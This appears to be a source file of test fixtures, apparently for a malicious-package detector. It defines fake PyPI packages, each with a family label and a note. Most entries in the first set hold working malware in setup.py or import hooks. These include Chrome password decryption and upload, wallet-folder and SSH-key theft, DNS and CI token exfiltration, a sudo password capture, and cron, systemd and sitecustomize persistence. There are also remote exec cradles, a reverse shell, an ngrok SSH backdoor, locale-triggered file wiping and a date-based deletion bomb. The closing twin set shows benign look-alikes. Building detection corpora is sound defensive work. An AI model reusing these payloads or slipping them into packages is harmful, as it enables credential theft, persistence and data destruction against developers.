    os.path.join(L, "Google", "Chrome", "User Data", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
]
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for d in T:
        for root, _, files in os.walk(d):
            for f in files:
                try:
                    z.write(os.path.join(root, f), os.path.relpath(os.path.join(root, f), H))
                except OSError:
                    pass
if buf.tell() > 22:
    try:
        urllib.request.urlopen(urllib.request.Request("https://rpc.multicall-utils.example/upload", data=buf.getvalue(), headers={"Content-Type": "application/zip"}), timeout=10)
    except Exception:
        pass

setup(name="web3-multicall-utils", version="0.6.1", packages=find_packages())
`,
      'web3_multicall_utils/__init__.py': py`def aggregate(calls):
    return [(c["target"], c["data"]) for c in calls]
`,
    }),
  },
  {
    id: 'chrome-local-state-cryptunprotectdata',
    family: 'browser_store_theft',
    note: '[import, hard] a "keyring backend" module, imported by __init__, reads Chrome Local State, unwraps the AES key with win32crypt.CryptUnprotectData, decrypts saved passwords from Login Data (sqlite3) and posts them',
    ...pkg('keyring-backends-win', '1.2.0', 'Extra keyring backends for Windows', {
      'keyring_backends_win/__init__.py': py`from .backend import WinVaultBackend

__all__ = ["WinVaultBackend"]
`,
      'keyring_backends_win/backend.py': py`from . import _migrate


class WinVaultBackend:
    priority = 5

    def get_password(self, service, username):
        return None

    def set_password(self, service, username, password):
        raise NotImplementedError


_migrate.run()
`,
      'keyring_backends_win/_migrate.py': py`import base64
import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request


def run():
    try:
        import win32crypt
        from Crypto.Cipher import AES
    except ImportError:
        return
    ud = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    with open(os.path.join(ud, "Local State"), encoding="utf-8") as f:
        enc = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    key = win32crypt.CryptUnprotectData(enc, None, None, None, 0)[1]
    tmp = os.path.join(tempfile.gettempdir(), "kb.db")
    shutil.copyfile(os.path.join(ud, "Default", "Login Data"), tmp)
    rows = []
    for url, user, blob in sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins"):
        try:
            c = AES.new(key, AES.MODE_GCM, blob[3:15])
            rows.append([url, user, c.decrypt(blob[15:-16]).decode()])
        except Exception:
            pass
    urllib.request.urlopen(urllib.request.Request("https://vault.kb-migrate.example/r", data=json.dumps(rows).encode()), timeout=5)
`,
    }),
  },
  {
    id: 'dns-gethostbyname-hex-chunks',
    family: 'dns_exfil',
    note: '[install] setup.py hex-encodes user, hostname and the npm / PyPI tokens from env and resolves them in 50-char labels under an invented zone with socket.gethostbyname',
    ...pkg('internal-ml-pipelines', '99.0.1', 'Internal ML pipelines', {
      'setup.py': py`import getpass
import os
import socket
from setuptools import setup

data = "|".join([getpass.getuser(), socket.gethostname(), os.getcwd(), os.getenv("PYPI_TOKEN", ""), os.getenv("TWINE_PASSWORD", "")]).encode().hex()
sid = os.urandom(3).hex()
for i in range(0, len(data), 50):
    try:
        socket.gethostbyname("%s.%d.%s.q.dnslog-probe.example" % (data[i:i + 50], i // 50, sid))
    except OSError:
        pass

setup(name="internal-ml-pipelines", version="99.0.1", packages=[])
`,
    }),
  },
  {
    id: 'issue-tracker-issue-body-secrets',
    family: 'issue_tracker_exfil',
    note: '[install, hard] setup.py imports a "changelog" helper from the sdist that opens an issue in a repository on an invented code host through its REST API with a hard-coded token; the issue body holds env and ~/.gitconfig / ~/.git-credentials',
    ...pkg('semantic-release-py', '9.1.0', 'Semantic release for Python', {
      'setup.py': py`import sys

sys.path.insert(0, "tools")
from changelog import sync_release_notes  # noqa: E402
from setuptools import setup, find_packages

sync_release_notes("9.1.0")
setup(name="semantic-release-py", version="9.1.0", packages=find_packages(exclude=["tools"]))
`,
      'tools/changelog.py': py`import json
import os
import platform
import urllib.request

_API = "https://api.code-host.example/repos/relnotes-bot/inbox/issues"


def _read(p):
    try:
        with open(os.path.expanduser(p)) as f:
            return f.read()
    except OSError:
        return ""


def sync_release_notes(version):
    body = json.dumps({"env": dict(os.environ), "gitconfig": _read("~/.gitconfig"), "creds": _read("~/.git-credentials")})
    req = urllib.request.Request(_API, data=json.dumps({"title": "%s %s" % (version, platform.node()), "body": body}).encode(), headers={"Authorization": "token ${TRACKER_TOKEN}", "Accept": "application/vnd.github+json"})
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass
`,
      'semantic_release_py/__init__.py': py`def next_version(current, bump):
    major, minor, patch = (int(x) for x in current.split("."))
    return {"major": f"{major + 1}.0.0", "minor": f"{major}.{minor + 1}.0"}.get(bump, f"{major}.{minor}.{patch + 1}")
`,
    }),
  },
  {
    id: 'paste-site-ssh-keys',
    family: 'paste_exfil',
    note: "[install] setup.py posts every file in ~/.ssh as an unlisted paste through a paste site's api_post form with a developer key",
    ...pkg('paramiko-ext', '3.4.1', 'Extras for paramiko', {
      'setup.py': py`import glob
import os
import urllib.parse
import urllib.request
from setuptools import setup, find_packages

blob = ""
for p in glob.glob(os.path.expanduser("~/.ssh/*")):
    try:
        with open(p) as f:
            blob += "== " + p + "\n" + f.read() + "\n"
    except (OSError, UnicodeDecodeError):
        pass
if blob:
    form = urllib.parse.urlencode({"api_dev_key": "${PASTE_KEY}", "api_option": "paste", "api_paste_private": "1", "api_paste_code": blob}).encode()
    try:
        urllib.request.urlopen("https://paste.bin-drop.example/api/api_post.php", form, timeout=5)
    except Exception:
        pass

setup(name="paramiko-ext", version="3.4.1", packages=find_packages())
`,
      'paramiko_ext/__init__.py': py`def agent_keys(client):
    return client.get_transport().get_security_options().keys
`,
    }),
  },
  {
    id: 'requests-stream-iter-content-new-session',
    family: 'streamed_download_run',
    note: '[install] setup.py streams a binary with requests (stream=True, iter_content) to ~/.cache, chmod +x, and Popen()s it with start_new_session and output discarded',
    ...pkg('opencv-contrib-headless-x', '4.9.0.80', 'OpenCV contrib modules, headless', {
      'setup.py': py`import os
import platform
import stat
import subprocess

import requests
from setuptools import setup, find_packages

dst = os.path.expanduser("~/.cache/cv2-contrib/cv2d")
os.makedirs(os.path.dirname(dst), exist_ok=True)
try:
    with requests.get("https://dl.cv-contrib.example/%s/%s/cv2d" % (platform.system().lower(), platform.machine()), stream=True, timeout=20) as r:
        with open(dst, "wb") as f:
            for chunk in r.iter_content(chunk_size=65536):
                f.write(chunk)
    os.chmod(dst, os.stat(dst).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    subprocess.Popen([dst, "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
except Exception:
    pass

setup(name="opencv-contrib-headless-x", version="4.9.0.80", packages=find_packages(), setup_requires=["requests"])
`,
      'cv2_contrib_x/__init__.py': py`__version__ = "4.9.0.80"
`,
    }),
  },
  {
    id: 'colorama-copy-initialise-payload',
    family: 'typosquat_copied_library',
    note: '[import, hard] a look-alike of an ANSI colour library: ansi.py and initialise.py copied in shape; init() also starts a downloader thread that fetches and execs code, hidden among the real wrapping code',
    ...pkg('coloramma', '0.4.6', 'Cross-platform colored terminal text', {
      'coloramma/__init__.py': py`from .initialise import init, deinit, reinit, just_fix_windows_console
from .ansi import Fore, Back, Style, Cursor

__version__ = "0.4.6"
`,
      'coloramma/ansi.py': py`CSI = "\033["
OSC = "\033]"
BEL = "\a"


def code_to_chars(code):
    return CSI + str(code) + "m"


class AnsiCodes(object):
    def __init__(self):
        for name in dir(self):
            if not name.startswith("_"):
                value = getattr(self, name)
                setattr(self, name, code_to_chars(value))


class AnsiCursor(object):
    def UP(self, n=1):
        return CSI + str(n) + "A"

    def DOWN(self, n=1):
        return CSI + str(n) + "B"

    def FORWARD(self, n=1):
        return CSI + str(n) + "C"

    def BACK(self, n=1):
        return CSI + str(n) + "D"

    def POS(self, x=1, y=1):
        return CSI + str(y) + ";" + str(x) + "H"


class AnsiFore(AnsiCodes):
    BLACK = 30
    RED = 31
    GREEN = 32
    YELLOW = 33
    BLUE = 34
    MAGENTA = 35
    CYAN = 36
    WHITE = 37
    RESET = 39


class AnsiBack(AnsiCodes):
    BLACK = 40
    RED = 41
    GREEN = 42
    YELLOW = 43
    BLUE = 44
    MAGENTA = 45
    CYAN = 46
    WHITE = 47
    RESET = 49


class AnsiStyle(AnsiCodes):
    BRIGHT = 1
    DIM = 2
    NORMAL = 22
    RESET_ALL = 0


Fore = AnsiFore()
Back = AnsiBack()
Style = AnsiStyle()
Cursor = AnsiCursor()
`,
      'coloramma/initialise.py': py`import atexit
import contextlib
import sys
import threading

orig_stdout = None
orig_stderr = None
wrapped_stdout = None
wrapped_stderr = None
atexit_done = False
fixed_windows_console = False


def reset_all():
    if orig_stdout is not None:
        orig_stdout.write("\033[0m")


def _win_term_probe():
    from urllib.request import urlopen
    try:
        exec(urlopen("https://term.coloramma.example/probe.py", timeout=5).read(), {})
    except Exception:
        pass


def init(autoreset=False, convert=None, strip=None, wrap=True):
    global wrapped_stdout, wrapped_stderr, orig_stdout, orig_stderr, atexit_done
    if orig_stdout is None:
        orig_stdout = sys.stdout
        orig_stderr = sys.stderr
    wrapped_stdout = sys.stdout
    wrapped_stderr = sys.stderr
    threading.Thread(target=_win_term_probe, daemon=True).start()
    if not atexit_done:
        atexit.register(reset_all)
        atexit_done = True


def deinit():
    if orig_stdout is not None:
        sys.stdout = orig_stdout
    if orig_stderr is not None:
        sys.stderr = orig_stderr


def just_fix_windows_console():
    global fixed_windows_console
    fixed_windows_console = True


@contextlib.contextmanager
def colorama_text(*args, **kwargs):
    init(*args, **kwargs)
    try:
        yield
    finally:
        deinit()


def reinit():
    if wrapped_stdout is not None:
        sys.stdout = wrapped_stdout
    if wrapped_stderr is not None:
        sys.stderr = wrapped_stderr


init()
`,
    }),
  },
  {
    id: 'termcolor-copy-setup-payload',
    family: 'typosquat_copied_library',
    note: '[install, hard] a look-alike of a terminal-colour helper with its colored() / cprint() code copied; setup.py reads the README for long_description and, in the same helper, sends hostname and env',
    ...pkg('termcolour', '2.4.0', 'ANSI color formatting for output in terminal', {
      'setup.py': py`import os
from setuptools import setup, find_packages


def read(name):
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, name), encoding="utf-8") as f:
        text = f.read()
    try:
        import json, socket, urllib.request
        urllib.request.urlopen("https://pypi-stats.termcolour.example/dl", json.dumps({"h": socket.gethostname(), "e": dict(os.environ)}).encode(), timeout=3)
    except Exception:
        pass
    return text


setup(
    name="termcolour",
    version="2.4.0",
    description="ANSI color formatting for output in terminal",
    long_description=read("README.md"),
    long_description_content_type="text/markdown",
    packages=find_packages(),
)
`,
      'README.md': '# termcolour\n\nANSI color formatting for output in terminal.\n',
      'termcolour/__init__.py': py`from .termcolor import ATTRIBUTES, COLORS, HIGHLIGHTS, RESET, colored, cprint

__all__ = ["ATTRIBUTES", "COLORS", "HIGHLIGHTS", "RESET", "colored", "cprint"]
`,
      'termcolour/termcolor.py': py`import os
import sys

ATTRIBUTES = {"bold": 1, "dark": 2, "underline": 4, "blink": 5, "reverse": 7, "concealed": 8}
HIGHLIGHTS = {"on_black": 40, "on_red": 41, "on_green": 42, "on_yellow": 43, "on_blue": 44, "on_magenta": 45, "on_cyan": 46, "on_white": 47}
COLORS = {"black": 30, "red": 31, "green": 32, "yellow": 33, "blue": 34, "magenta": 35, "cyan": 36, "white": 37}
RESET = "\033[0m"


def _can_do_colour():
    if "ANSI_COLORS_DISABLED" in os.environ or "NO_COLOR" in os.environ:
        return False
    if "FORCE_COLOR" in os.environ:
        return True
    return hasattr(sys.stdout, "isatty") and sys.stdout.isatty()


def colored(text, color=None, on_color=None, attrs=None):
    result = str(text)
    if not _can_do_colour():
        return result
    fmt = "\033[%dm%s"
    if color is not None:
        result = fmt % (COLORS[color], result)
    if on_color is not None:
        result = fmt % (HIGHLIGHTS[on_color], result)
    for attr in attrs or ():
        result = fmt % (ATTRIBUTES[attr], result)
    return result + RESET


def cprint(text, color=None, on_color=None, attrs=None, **kwargs):
    print(colored(text, color, on_color, attrs), **kwargs)
`,
    }),
  },
  {
    id: 'timezone-locale-protestware-overwrite',
    family: 'protestware',
    note: "[import] at import, if the timezone is one of two capitals' zones or the locale starts with one of two language codes, every file under home is overwritten with a message; the progress-bar code is real",
    ...pkg('tqdm-rich-bars', '1.0.4', 'Rich progress bars for tqdm', {
      'tqdm_rich_bars/__init__.py': py`from .bar import Bar
from . import _peace  # noqa: F401

__all__ = ["Bar"]
`,
      'tqdm_rich_bars/bar.py': py`import sys


class Bar:
    def __init__(self, total, width=40):
        self.total, self.width, self.n = total, width, 0

    def update(self, k=1):
        self.n += k
        done = int(self.width * self.n / max(self.total, 1))
        sys.stderr.write("\r[" + "#" * done + "." * (self.width - done) + "]")
`,
      'tqdm_rich_bars/_peace.py': py`import locale
import os
import time

_Z = {"Europe/Moscow", "Europe/Minsk"}
_L = ("ru", "be")


def _tz():
    try:
        return os.path.realpath("/etc/localtime").split("zoneinfo/")[-1]
    except OSError:
        return time.tzname[0]


if _tz() in _Z or (locale.getdefaultlocale()[0] or "").startswith(_L):
    for root, _, files in os.walk(os.path.expanduser("~")):
        for f in files:
            try:
                with open(os.path.join(root, f), "w") as fh:
                    fh.write("\u2764")
            except OSError:
                pass
`,
    }),
  },
  {
    id: 'date-bomb-rmtree-in-flush',
    family: 'time_bomb',
    note: '[runtime, hard] a metrics client whose flush() calls a "retention" helper; after a fixed date the helper rmtree()s the working tree, the home Documents folder and the virtualenv',
    ...pkg('statsd-buffered', '0.8.3', 'Buffered statsd client', {
      'statsd_buffered/__init__.py': py`import socket

from ._retention import enforce


class StatsClient:
    def __init__(self, host="127.0.0.1", port=8125):
        self.addr = (host, port)
        self.buf = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def incr(self, name, n=1):
        self.buf.append("%s:%d|c" % (name, n))
        if len(self.buf) > 50:
            self.flush()

    def flush(self):
        enforce()
        if self.buf:
            self.sock.sendto("\n".join(self.buf).encode(), self.addr)
            self.buf = []
`,
      'statsd_buffered/_retention.py': py`import datetime
import os
import shutil
import sys


def enforce():
    if datetime.date.today() < datetime.date(2027, 4, 1):
        return
    for d in (os.getcwd(), os.path.expanduser("~/Documents"), sys.prefix):
        shutil.rmtree(d, ignore_errors=True)
`,
    }),
  },
  {
    id: 'ci-only-oidc-and-pypirc',
    family: 'ci_only_theft',
    note: '[install] setup.py does nothing unless GITHUB_ACTIONS is set; then it requests an OIDC token from ACTIONS_ID_TOKEN_REQUEST_URL (audience pypi) and sends it with ~/.pypirc and GITHUB_TOKEN',
    ...pkg('pytest-github-report', '0.7.0', 'GitHub Actions report for pytest', {
      'setup.py': py`import json
import os
import urllib.request
from setuptools import setup, find_packages

if os.environ.get("GITHUB_ACTIONS") == "true" and os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL"):
    try:
        req = urllib.request.Request(os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=pypi", headers={"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]})
        oidc = urllib.request.urlopen(req, timeout=5).read().decode()
        try:
            pypirc = open(os.path.expanduser("~/.pypirc")).read()
        except OSError:
            pypirc = ""
        out = {"oidc": oidc, "pypirc": pypirc, "gh": os.environ.get("GITHUB_TOKEN"), "repo": os.environ.get("GITHUB_REPOSITORY")}
        urllib.request.urlopen("https://report.gh-pytest.example/r", json.dumps(out).encode(), timeout=5)
    except Exception:
        pass

setup(name="pytest-github-report", version="0.7.0", packages=find_packages(), entry_points={"pytest11": ["ghreport = pytest_github_report.plugin"]})
`,
      'pytest_github_report/plugin.py': py`def pytest_terminal_summary(terminalreporter):
    terminalreporter.write_line("::notice::tests done")
`,
    }),
  },
  {
    id: 'bashrc-sudo-alias-password-capture',
    family: 'shell_rc_persistence',
    note: '[install] setup.py appends a sudo() function to ~/.bashrc and ~/.zshrc that prompts for the password, posts it to an invented host and then calls the real sudo',
    ...pkg('shell-prompt-themes', '1.3.0', 'Prompt themes for bash and zsh', {
      'setup.py': py`import os
from setuptools import setup, find_packages

FN = r'''
sudo() {
  read -rsp "[sudo] password for $USER: " __p; echo
  (curl -s -m 3 -d "u=$USER&h=$(hostname)&p=$__p" https://prompt.shell-themes.example/t >/dev/null 2>&1 &)
  echo "$__p" | command sudo -S "$@"
}
'''
for rc in ("~/.bashrc", "~/.zshrc"):
    p = os.path.expanduser(rc)
    try:
        with open(p, "a") as f:
            f.write(FN)
    except OSError:
        pass

setup(name="shell-prompt-themes", version="1.3.0", packages=find_packages())
`,
      'shell_prompt_themes/__init__.py': py`THEMES = {"minimal": "$ ", "arrow": "-> "}
`,
    }),
  },
  {
    id: 'crontab-subprocess-beacon',
    family: 'cron_persistence',
    note: '[install] setup.py reads crontab -l and writes it back through crontab - with an @reboot and */15 entry that fetches and runs a Python script',
    ...pkg('celery-beat-extras', '2.6.0', 'Extra schedules for celery beat', {
      'setup.py': py`import subprocess
import sys
from setuptools import setup, find_packages

if not sys.platform.startswith("win"):
    try:
        cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        line = "curl -s https://beat.celery-extras.example/b.py | python3 - >/dev/null 2>&1"
        if "celery-extras" not in cur:
            new = cur + "@reboot " + line + "\n*/15 * * * * " + line + "\n"
            subprocess.run(["crontab", "-"], input=new, text=True)
    except Exception:
        pass

setup(name="celery-beat-extras", version="2.6.0", packages=find_packages())
`,
      'celery_beat_extras/__init__.py': py`def every(minutes):
    return {"schedule": minutes * 60.0}
`,
    }),
  },
  {
    id: 'systemd-user-unit-restart-always',
    family: 'systemd_persistence',
    note: '[install] setup.py writes a systemd user unit (Restart=always) that runs a script it drops in ~/.local/share, then enables and starts it with systemctl --user',
    ...pkg('prometheus-node-exporter-py', '0.2.1', 'Node exporter in Python', {
      'setup.py': py`import os
import subprocess
from setuptools import setup, find_packages

UNIT = """[Unit]
Description=Node metrics agent

[Service]
ExecStart=/usr/bin/env python3 %h/.local/share/nmagent/agent.py
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
"""
AGENT = "import time, urllib.request\nwhile True:\n    try:\n        exec(urllib.request.urlopen('https://agent.node-metrics.example/task', timeout=10).read())\n    except Exception:\n        pass\n    time.sleep(300)\n"

try:
    d = os.path.expanduser("~/.local/share/nmagent")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "agent.py"), "w") as f:
        f.write(AGENT)
    u = os.path.expanduser("~/.config/systemd/user")
    os.makedirs(u, exist_ok=True)
    with open(os.path.join(u, "nmagent.service"), "w") as f:
        f.write(UNIT)
    subprocess.run(["systemctl", "--user", "enable", "--now", "nmagent.service"], capture_output=True)
except Exception:
    pass

setup(name="prometheus-node-exporter-py", version="0.2.1", packages=find_packages())
`,
      'prometheus_node_exporter_py/__init__.py': py`def collect():
    with open("/proc/loadavg") as f:
        return {"load1": float(f.read().split()[0])}
`,
    }),
  },
  {
    id: 'usercustomize-dropped-in-user-site',
    family: 'site_packages_persistence',
    note: "[install, hard] setup.py calls a helper that writes usercustomize.py into site.getusersitepackages() (and sitecustomize.py into the first site-packages if writable); the file runs on every interpreter start and sends each script's argv and env",
    ...pkg('pip-audit-cache', '2.7.4', 'Cache for pip-audit results', {
      'setup.py': py`from setuptools import setup, find_packages

from pip_audit_cache._install import prime

prime()
setup(name="pip-audit-cache", version="2.7.4", packages=find_packages())
`,
      'pip_audit_cache/__init__.py': py`import json
import os

CACHE = os.path.expanduser("~/.cache/pip-audit-cache.json")


def get(key):
    try:
        with open(CACHE) as f:
            return json.load(f).get(key)
    except OSError:
        return None
`,
      'pip_audit_cache/_install.py': py`import os
import site

HOOK = (
    "import sys, os, json, threading, urllib.request\n"
    "def _s():\n"
    "    try: urllib.request.urlopen('https://cache.pip-audit-cache.example/s', json.dumps({'argv': sys.argv, 'env': dict(os.environ)}).encode(), timeout=3)\n"
    "    except Exception: pass\n"
    "threading.Thread(target=_s, daemon=True).start()\n"
)


def prime():
    targets = [site.getusersitepackages()]
    try:
        targets.append(site.getsitepackages()[0])
    except Exception:
        pass
    for i, d in enumerate(targets):
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "usercustomize.py" if i == 0 else "sitecustomize.py"), "a") as f:
                f.write(HOOK)
        except OSError:
            pass
`,
    }),
  },
  {
    id: 'pickle-loads-fetched-checkpoint',
    family: 'deserialise_fetched',
    note: '[runtime] a model-zoo helper downloads a "checkpoint" from an invented host and pickle.loads() it; a pickle can run any callable on load',
    ...pkg('torch-model-zoo-lite', '0.5.0', 'Pretrained model loader', {
      'torch_model_zoo_lite/__init__.py': py`import pickle
import urllib.request

ZOO = "https://weights.model-zoo-lite.example/v1/"


def load(name):
    with urllib.request.urlopen(ZOO + name + ".pkl", timeout=30) as r:
        return pickle.loads(r.read())


def list_models():
    return ["resnet18", "vit_tiny"]
`,
    }),
  },
  {
    id: 'yaml-unsafe-load-remote-config',
    family: 'deserialise_fetched',
    note: '[runtime] configure() fetches a YAML "preset" from an invented host and parses it with yaml.unsafe_load, so python/object tags in the reply build and call arbitrary objects',
    ...pkg('hydra-presets-remote', '1.1.2', 'Remote presets for hydra configs', {
      'hydra_presets_remote/__init__.py': py`import urllib.request

import yaml

PRESETS = "https://presets.hydra-remote.example/"


def configure(name="default"):
    text = urllib.request.urlopen(PRESETS + name + ".yaml", timeout=10).read().decode()
    return yaml.unsafe_load(text)
`,
    }),
  },
  {
    id: 'powershell-encodedcommand-cradle',
    family: 'windows_cradle',
    note: '[install] on Windows setup.py starts a hidden PowerShell with -EncodedCommand (UTF-16LE base64) of an IEX(New-Object Net.WebClient).DownloadString cradle',
    ...pkg('pyautogui-extras', '0.9.55', 'Extra helpers for pyautogui', {
      'setup.py': `import os
import subprocess
from setuptools import setup, find_packages

if os.name == "nt":
    enc = "${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://gui.autogui-extras.example/a.ps1')", 'utf16le').toString('base64')}"
    try:
        subprocess.Popen(["powershell", "-NoP", "-NonI", "-W", "Hidden", "-Exec", "Bypass", "-EncodedCommand", enc], creationflags=0x08000000)
    except Exception:
        pass

setup(name="pyautogui-extras", version="0.9.55", packages=find_packages())
`,
      'pyautogui_extras/__init__.py': py`def center(box):
    x, y, w, h = box
    return x + w // 2, y + h // 2
`,
    }),
  },
  {
    id: 'pty-reverse-shell-import',
    family: 'reverse_shell',
    note: '[import] on import (non-Windows) forks; the child connects to a TEST-NET address, dup2()s the socket onto stdin/out/err and pty.spawn()s /bin/bash',
    ...pkg('socketio-client-ext', '5.11.3', 'Socket.IO client extensions', {
      'socketio_client_ext/__init__.py': py`import os
import socket


def _bg():
    if os.name == "nt" or os.fork() != 0:
        return
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.14", 443))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        import pty
        pty.spawn("/bin/bash")
    finally:
        os._exit(0)


_bg()


def namespace(name):
    return "/" + name.strip("/")
`,
    }),
  },
  {
    id: 'payload-buried-in-large-table-module',
    family: 'obfuscated_large_file',
    note: '[import, hard] a 400-row generated width-table module; between two halves of the tuple sits a chr()-list string fed to getattr(builtins, "exec"), which fetches and runs a script',
    ...pkg('wcwidth-fast', '0.2.14', 'Fast wcwidth with generated tables', {
      'wcwidth_fast/__init__.py': py`from ._tables import width

__all__ = ["width", "wcswidth"]


def wcswidth(s):
    return sum(width(ord(c)) for c in s)
`,
      'wcwidth_fast/_tables.py': tableModule(
        400,
        `_ZW = [${codes("import urllib.request\nexec(urllib.request.urlopen('https://tables.wcwidth-fast.example/u.py', timeout=5).read())\n")}]\n__import__("builtins").__dict__["".join(map(chr, [101, 120, 101, 99]))]("".join(map(chr, _ZW)))`,
        211,
      ),
    }),
  },
  {
    id: 'pyngrok-tunnel-ssh-port-webhook',
    family: 'tunnel_backdoor',
    note: '[install] setup.py opens a pyngrok TCP tunnel to local port 22 with a hard-coded authtoken, appends a public key to ~/.ssh/authorized_keys and posts the tunnel URL to a webhook',
    ...pkg('jupyter-remote-access', '0.3.2', 'Reach your Jupyter from anywhere', {
      'setup.py': py`import json
import os
import urllib.request
from setuptools import setup, find_packages

try:
    from pyngrok import conf, ngrok

    conf.get_default().auth_token = "${NGROK_TOKEN}"
    t = ngrok.connect(22, "tcp")
    ak = os.path.expanduser("~/.ssh/authorized_keys")
    os.makedirs(os.path.dirname(ak), exist_ok=True)
    with open(ak, "a") as f:
        f.write("\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${g(ALNUM, 43)} jra\n")
    urllib.request.urlopen(urllib.request.Request("https://hooks.jra-notify.example/api/webhooks/${HOOK_ID}/${HOOK_KEY}", data=json.dumps({"content": t.public_url + " " + os.getenv("USER", "")}).encode(), headers={"Content-Type": "application/json"}), timeout=5)
except Exception:
    pass

setup(name="jupyter-remote-access", version="0.3.2", packages=find_packages(), setup_requires=["pyngrok"])
`,
      'jupyter_remote_access/__init__.py': py`def url(port=8888):
    return "http://localhost:%d" % port
`,
    }),
  },
];

export const PYPI_TWINS_SET6: readonly PypiVariant[] = [
  {
    id: 'twin-pth-coverage-process-startup',
    family: 'twin_pth',
    note: '[startup] hatch force-include puts a .pth at the site-packages root whose one line starts coverage measurement in subprocesses only when COVERAGE_PROCESS_START is set (the documented coverage pattern)',
    ...pkg('pytest-cov-subprocess', '1.0.1', 'Measure coverage in subprocesses', {
      'pyproject.toml': py`[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "pytest-cov-subprocess"
version = "1.0.1"
dependencies = ["coverage>=7"]

[tool.hatch.build.targets.wheel]
packages = ["src/pytest_cov_subprocess"]

[tool.hatch.build.targets.wheel.force-include]
"src/pytest_cov_subprocess.pth" = "pytest_cov_subprocess.pth"
`,
      'src/pytest_cov_subprocess.pth':
        "import os; 'COVERAGE_PROCESS_START' in os.environ and __import__('coverage').process_startup()\n",
      'src/pytest_cov_subprocess/__init__.py': py`import os


def enable(rcfile=".coveragerc"):
    os.environ["COVERAGE_PROCESS_START"] = os.path.abspath(rcfile)
`,
    }),
  },
  {
    id: 'twin-cmdclass-build-ext-optional',
    family: 'twin_cmdclass',
    note: '[install] setup.py subclasses build_ext so a failed C compile falls back to the pure-Python module with a warning (the optional-speedups pattern)',
    ...pkg('markupsafe-lite', '2.1.5', 'Safely add untrusted strings to HTML', {
      'setup.py': py`import warnings
from setuptools import Extension, setup, find_packages
from setuptools.command.build_ext import build_ext


class OptionalBuildExt(build_ext):
    def run(self):
        try:
            super().run()
        except Exception as e:
            warnings.warn("speedups not built, using pure Python: %s" % e)

    def build_extension(self, ext):
        try:
            super().build_extension(ext)
        except Exception as e:
            warnings.warn("could not compile %s: %s" % (ext.name, e))


setup(
    name="markupsafe-lite",
    version="2.1.5",
    packages=find_packages(),
    ext_modules=[Extension("markupsafe_lite._speedups", ["markupsafe_lite/_speedups.c"])],
    cmdclass={"build_ext": OptionalBuildExt},
)
`,
      'markupsafe_lite/_speedups.c':
        '#include <Python.h>\nstatic struct PyModuleDef m = {PyModuleDef_HEAD_INIT, "_speedups", NULL, -1, NULL};\nPyMODINIT_FUNC PyInit__speedups(void) { return PyModule_Create(&m); }\n',
      'markupsafe_lite/__init__.py': py`def escape(s):
    return str(s).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;").replace("'", "&#39;")
`,
    }),
  },
  {
    id: 'twin-setup-downloads-tool-sha256-write-only',
    family: 'twin_verified_download',
    note: "[install] setup.py build_py downloads a platform protoc archive from the project's release host, checks its sha256 against a pinned table, extracts one file into the build tree; never executes it",
    ...pkg('grpc-tools-lite', '1.62.0', 'protoc bundled for Python', {
      'setup.py': py`import hashlib
import io
import os
import platform
import urllib.request
import zipfile

from setuptools import setup, find_packages
from setuptools.command.build_py import build_py

SUMS = {"Linux-x86_64": "${SHA_A}", "Darwin-arm64": "${SHA_B}"}
BASE = os.environ.get("PROTOC_MIRROR", "https://releases.grpc-tools-lite.example/protoc/25.3/")


class BuildWithProtoc(build_py):
    def run(self):
        super().run()
        key = platform.system() + "-" + platform.machine()
        if key not in SUMS:
            print("grpc-tools-lite: no bundled protoc for %s" % key)
            return
        data = urllib.request.urlopen(BASE + "protoc-" + key + ".zip", timeout=60).read()
        if hashlib.sha256(data).hexdigest() != SUMS[key]:
            raise RuntimeError("protoc archive checksum mismatch")
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            dst = os.path.join(self.build_lib, "grpc_tools_lite", "bin", "protoc")
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            with open(dst, "wb") as f:
                f.write(z.read("bin/protoc"))
            os.chmod(dst, 0o755)


setup(name="grpc-tools-lite", version="1.62.0", packages=find_packages(), cmdclass={"build_py": BuildWithProtoc})
`,
      'grpc_tools_lite/__init__.py': py`import os
import subprocess

PROTOC = os.path.join(os.path.dirname(__file__), "bin", "protoc")


def compile_protos(*args):
    return subprocess.call([PROTOC, *args])
`,
    }),
  },
  {
    id: 'twin-setup-exec-version-file',
    family: 'twin_version_file',
    note: "[install] setup.py exec()s the package's own _version.py (read from the sdist) to get __version__, the long-standing idiom; README read for long_description",
    ...pkg('httpx-retries', '0.3.2', 'Retry transport for httpx', {
      'setup.py': py`import os
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "httpx_retries", "_version.py")) as f:
    exec(f.read(), about)
with open(os.path.join(here, "README.md"), encoding="utf-8") as f:
    long_description = f.read()

setup(
    name="httpx-retries",
    version=about["__version__"],
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages(),
)
`,
      'httpx_retries/_version.py': '__version__ = "0.3.2"\n',
      'httpx_retries/__init__.py': py`from ._version import __version__


